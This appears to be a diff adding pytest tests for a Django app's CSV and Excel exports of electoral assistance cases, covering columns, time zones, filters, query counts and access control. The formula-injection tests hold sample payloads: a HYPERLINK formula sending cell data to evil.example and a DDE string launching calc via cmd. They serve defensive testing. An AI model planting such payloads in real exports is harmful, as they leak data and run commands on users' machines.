@@ -1,0 +1,333 @@
+"""Exports of the case list: what a user gets in Excel or a CSV reader, with the list's filters."""
+
+import csv
+import datetime
+import io
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from requests_app.models import AssistanceRequest, AssistanceType, Election, ElectionType, Origin, Stage
+from tests.factories import UserFactory, assistance_type, member_state, new_request, set_due
+
+pytestmark = pytest.mark.django_db
+
+CSV_URL = reverse("workspace:case-export-csv")
+XLSX_URL = reverse("workspace:case-export-xlsx")
+LIST_URL = reverse("workspace:case-list")
+
+HEADER = [
+    "Reference", "Member State", "Regional group", "Origin", "Requesting authority", "Letter date",
+    "Received date", "Stage", "In stage since", "Due", "Overdue", "Officer", "Next election date",
+    "Assistance requested", "Summary",
+]
+
+
+def body(response):
+    return b"".join(response.streaming_content)
+
+
+def csv_rows(response):
+    content = body(response)
+    assert content.startswith("\ufeff".encode()), "without a BOM Excel garbles accented names"
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def xlsx_sheet(response):
+    return load_workbook(io.BytesIO(body(response))).active
+
+
+def references(rows):
+    return [row[0] for row in rows[1:]]
+
+
+def bulk_cases(count, *, officer=None, prefix="BULK"):
+    """Many cases in a handful of queries, each with two elections and two requested types."""
+    today = timezone.localdate()
+    states = [member_state("GHA"), member_state("FRA"), member_state("MEX")]
+    cases = AssistanceRequest.objects.bulk_create([
+        AssistanceRequest(
+            reference=f"{prefix}-{i:04d}",
+            member_state=states[i % 3],
+            origin=Origin.GOVERNMENT,
+            requesting_authority="Minister for Foreign Affairs",
+            authority_type="foreign_minister",
+            letter_date=today - datetime.timedelta(days=20),
+            received_date=today - datetime.timedelta(days=5 + i % 7),
+            summary=f"Request number {i}",
+            officer=officer,
+            stage_due_at=timezone.now() + datetime.timedelta(days=i % 20 - 10),
+        )
+        for i in range(count)
+    ])
+    Election.objects.bulk_create([
+        Election(case=case, election_type=ElectionType.GENERAL, planned_date=today + datetime.timedelta(days=days))
+        for case in cases
+        for days in (200, 500)
+    ])
+    types = list(AssistanceType.objects.order_by("position")[:2])
+    through = AssistanceRequest.requested_types.through
+    through.objects.bulk_create([through(assistancerequest=case, assistancetype=t) for case in cases for t in types])
+    return cases
+
+
+@pytest.fixture
+def ghana(officer):
+    """One case with everything an export shows: accents, an officer, an overdue deadline, elections."""
+    case = new_request(
+        actor=None,
+        state="GHA",
+        summary="Appui à l’inscription des électeurs, région d’Ashanti",
+        requesting_authority="Ministre des Affaires étrangères",
+        officer=UserFactory(is_staff=True, first_name="Amélie", last_name="Ndiaye"),
+        election_in_days=300,
+    )
+    case.requested_types.add(assistance_type("training"))
+    yesterday = timezone.localdate() - datetime.timedelta(days=1)
+    Election.objects.create(case=case, election_type=ElectionType.LOCAL, planned_date=yesterday)
+    return set_due(case, timezone.now() - datetime.timedelta(days=3))
+
+
+def test_the_csv_has_one_row_per_case_with_every_column_excel_can_read(client, officer, ghana):
+    client.force_login(officer)
+    response = client.get(CSV_URL)
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == f'attachment; filename="eas-cases-{timezone.localdate():%Y-%m-%d}.csv"'
+    rows = csv_rows(response)
+    assert rows[0] == HEADER
+    local_entered = timezone.localtime(ghana.stage_entered_at)
+    local_due = timezone.localtime(ghana.stage_due_at)
+    next_election = ghana.received_date + datetime.timedelta(days=300)
+    assert rows[1:] == [[
+        ghana.reference,
+        "Ghana",
+        "African States",
+        "Written request from the government",
+        "Ministre des Affaires étrangères",
+        ghana.letter_date.isoformat(),
+        ghana.received_date.isoformat(),
+        "Received",
+        f"{local_entered:%Y-%m-%d %H:%M}",
+        f"{local_due:%Y-%m-%d %H:%M}",
+        "yes",
+        "Amélie Ndiaye",
+        next_election.isoformat(),  # the local election yesterday is past, so not "next"
+        "Voter registration; Training of electoral staff",
+        "Appui à l’inscription des électeurs, région d’Ashanti",
+    ]]
+
+
+def test_the_workbook_has_real_dates_a_bold_frozen_header_and_the_same_values(client, officer, ghana):
+    client.force_login(officer)
+    response = client.get(XLSX_URL)
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert f'filename="eas-cases-{timezone.localdate():%Y-%m-%d}.xlsx"' in response["Content-Disposition"]
+    sheet = xlsx_sheet(response)
+    assert [cell.value for cell in sheet[1]] == HEADER
+    assert all(cell.font.b for cell in sheet[1])
+    assert sheet.freeze_panes == "A2"
+    assert sheet.column_dimensions["O"].width >= 60  # the summary is readable without resizing
+    row = [cell.value for cell in sheet[2]]
+    assert sheet.max_row == 2
+    assert row[0] == ghana.reference
+    assert row[1:5] == [
+        "Ghana", "African States", "Written request from the government", "Ministre des Affaires étrangères",
+    ]
+    # Dates are dates Excel can sort and compute with, not text.
+    assert row[5] == datetime.datetime.combine(ghana.letter_date, datetime.time())
+    assert row[6] == datetime.datetime.combine(ghana.received_date, datetime.time())
+    assert sheet.cell(row=2, column=6).is_date
+    assert row[8] == timezone.localtime(ghana.stage_entered_at).replace(tzinfo=None, microsecond=0)
+    assert row[9] == timezone.localtime(ghana.stage_due_at).replace(tzinfo=None, microsecond=0)
+    assert row[10:14] == [
+        "yes", "Amélie Ndiaye",
+        datetime.datetime.combine(ghana.received_date + datetime.timedelta(days=300), datetime.time()),
+        "Voter registration; Training of electoral staff",
+    ]
+    assert row[14] == "Appui à l’inscription des électeurs, région d’Ashanti"
+
+
+def test_a_closed_case_has_no_due_date_and_is_not_overdue(client, officer):
+    case = new_request(actor=None, summary="Withdrawn case")
+    set_due(case, timezone.now() - datetime.timedelta(days=9))
+    AssistanceRequest.objects.filter(pk=case.pk).update(stage=Stage.WITHDRAWN)
+    client.force_login(officer)
+
+    row = csv_rows(client.get(CSV_URL))[1]
+
+    assert (row[7], row[9], row[10]) == ("Withdrawn", "", "no")
+
+
+def test_times_are_in_the_users_time_zone(client, officer, settings):
+    settings.TIME_ZONE = "Asia/Tokyo"  # UTC+9, no daylight saving
+    case = new_request(actor=None)
+    set_due(case, datetime.datetime(2030, 1, 1, 20, 30, tzinfo=datetime.timezone.utc))
+    client.force_login(officer)
+
+    csv_due = csv_rows(client.get(CSV_URL))[1][9]
+    xlsx_due = xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=10).value
+
+    assert csv_due == "2030-01-02 05:30"
+    assert xlsx_due == datetime.datetime(2030, 1, 2, 5, 30)
+
+
+@pytest.fixture
+def three_cases(officer):
+    """Three cases in three regions and two stages, received on different days."""
+    ghana = new_request(actor=None, state="GHA", received_days_ago=3, summary="Voter registration in Ghana")
+    france = new_request(actor=None, state="FRA", received_days_ago=1, summary="Expert panel for France")
+    mexico = new_request(actor=None, state="MEX", received_days_ago=2, summary="Observer support, Mexico")
+    AssistanceRequest.objects.filter(pk=france.pk).update(stage=Stage.UNDER_REVIEW)
+    return ghana, france, mexico
+
+
+@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ("", ["FRA", "MEX", "GHA"]),  # the list's default: newest received first
+        ("?stage=received", ["MEX", "GHA"]),
+        ("?region=AFRICAN", ["GHA"]),
+        ("?q=panel", ["FRA"]),
+        ("?sort=state", ["FRA", "GHA", "MEX"]),
+        ("?stage=received&sort=-state", ["MEX", "GHA"]),
+    ],
+)
+def test_the_export_has_the_cases_the_list_shows_in_its_order(client, officer, three_cases, url, query, expected):
+    by_state = {case.member_state.iso3: case.reference for case in three_cases}
+    client.force_login(officer)
+
+    listed = [case.reference for case in client.get(LIST_URL + query).context["page"].object_list]
+    response = client.get(url + query)
+
+    if url == CSV_URL:
+        exported = references(csv_rows(response))
+    else:
+        exported = [row[0] for row in xlsx_sheet(response).iter_rows(min_row=2, values_only=True)]
+    assert exported == [by_state[iso3] for iso3 in expected] == listed
+
+
+@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
+def test_an_invalid_filter_is_ignored_not_an_error(client, officer, three_cases, url):
+    client.force_login(officer)
+
+    response = client.get(url + "?stage=nonsense&region=ATLANTIS&received_after=not-a-date&sort=bogus&officer=999999")
+
+    assert response.status_code == 200
+    content = body(response)
+    if url == CSV_URL:
+        assert len(list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))) == 4
+    else:
+        assert load_workbook(io.BytesIO(content)).active.max_row == 4
+
+
+DANGEROUS = {
+    "summary": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "requesting_authority": "+41 22 917 1234",
+}
+
+
+@pytest.fixture
+def dangerous_case(db):
+    return new_request(actor=None, **DANGEROUS)
+
+
+def test_csv_cells_that_would_run_as_formulas_are_made_text(client, officer, dangerous_case):
+    officer_named_like_a_formula = UserFactory(is_staff=True, first_name="@SUM(1+1)*cmd|' /C calc'!A0", last_name="")
+    AssistanceRequest.objects.filter(pk=dangerous_case.pk).update(officer=officer_named_like_a_formula)
+    client.force_login(officer)
+
+    row = csv_rows(client.get(CSV_URL))[1]
+
+    assert row[14] == "'" + DANGEROUS["summary"]
+    assert row[4] == "'" + DANGEROUS["requesting_authority"]
+    assert row[11].startswith("'@SUM")
+
+
+def test_xlsx_cells_that_would_run_as_formulas_are_text(client, officer, dangerous_case):
+    AssistanceRequest.objects.filter(pk=dangerous_case.pk).update(summary="\x07-1+1\x0b with a control character")
+    client.force_login(officer)
+
+    response = client.get(XLSX_URL)
+
+    assert response.status_code == 200  # a control character pasted from Word must not break the file
+    sheet = xlsx_sheet(response)
+    summary, authority = sheet.cell(row=2, column=15), sheet.cell(row=2, column=5)
+    assert (summary.data_type, summary.value) == ("s", "'-1+1 with a control character")
+    assert (authority.data_type, authority.value) == ("s", "'" + DANGEROUS["requesting_authority"])
+
+
+def test_an_equals_sign_never_becomes_an_excel_formula(client, officer, dangerous_case):
+    client.force_login(officer)
+
+    cell = xlsx_sheet(client.get(XLSX_URL)).cell(row=2, column=15)
+
+    assert cell.data_type == "s"
+    assert cell.value == "'" + DANGEROUS["summary"]
+
+
+@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
+def test_the_export_costs_the_same_queries_for_5_or_60_cases(client, officer, url):
+    client.force_login(officer)
+
+    def export():
+        """(queries, rows including the header) of one export, read to its end."""
+        with CaptureQueriesContext(connection) as queries:
+            response = client.get(url + "?sort=due")
+            if url == CSV_URL:
+                rows = len(csv_rows(response))
+            else:
+                rows = xlsx_sheet(response).max_row
+        return len(queries), rows
+
+    bulk_cases(5, officer=officer, prefix="FEW")
+    few, rows = export()
+    assert rows == 6
+    bulk_cases(55, officer=officer, prefix="MANY")
+    many, rows = export()
+
+    assert rows == 61
+    assert many == few
+
+
+def test_a_large_export_reads_its_cases_chunk_by_chunk(client, officer, monkeypatch):
+    """Rows are read in chunks with their elections and types: queries grow with chunks, not rows."""
+    from requests_app import exports
+
+    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
+    bulk_cases(30, officer=officer)
+    client.force_login(officer)
+
+    with CaptureQueriesContext(connection) as queries:
+        rows = csv_rows(client.get(CSV_URL))
+    election_queries = [q for q in queries.captured_queries if "requests_app_election" in q["sql"]]
+
+    assert len(rows) == 31
+    assert all(row[12] and row[13] for row in rows[1:])
+    assert len(election_queries) == 3
+
+
+@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
+def test_an_anonymous_visitor_is_sent_to_log_in(client, url):
+    response = client.get(url + "?stage=received")
+
+    assert response.status_code == 302
+    assert response["Location"].startswith(reverse("login"))
+
+
+@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL], ids=["csv", "xlsx"])
+def test_someone_who_is_not_staff_gets_no_cases(client, url, three_cases):
+    client.force_login(UserFactory(is_staff=False))
+
+    response = client.get(url)
+
+    assert response.status_code == 403
+    assert b"Ghana" not in response.content
